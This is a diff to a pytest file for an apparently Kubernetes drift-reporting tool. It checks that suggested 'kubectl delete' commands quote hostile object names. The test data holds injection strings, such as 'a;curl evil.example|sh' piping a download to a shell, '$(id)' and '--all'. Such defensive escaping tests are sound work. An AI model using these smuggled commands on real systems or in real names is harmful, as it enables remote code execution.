@@ -239,10 +239,14 @@ def test_an_object_without_our_name_on_it_is_told(rows: list[dict[str, Any]]) ->
     assert (finding.title, finding.what) == ("ConfigMap sales-dev/list", "changed")
 
 
-def test_a_name_that_a_shell_would_read_is_quoted_in_what_to_type() -> None:
-    odd = plain("Role", "a;curl evil.example|sh", "rbac.authorization.k8s.io/v1")
+@pytest.mark.parametrize(
+    ("name", "typed"),
+    [("a;curl evil.example|sh", "'a;curl evil.example|sh'"), ("--all", "-- --all"), ("$(id)", "'$(id)'")],
+)
+def test_a_name_that_a_shell_or_kubectl_would_obey_is_only_a_name(name: str, typed: str) -> None:
+    odd = plain("Role", name, "rbac.authorization.k8s.io/v1")
     (finding,) = seen([NAMESPACE], live_object(NAMESPACE), odd).findings
-    assert finding.way == "kubectl delete -n sales-dev role.rbac.authorization.k8s.io 'a;curl evil.example|sh'"
+    assert finding.way == f"kubectl delete -n sales-dev role.rbac.authorization.k8s.io {typed}"
 
 
 def test_a_kind_that_may_not_be_listed_is_told_and_is_no_drift() -> None:
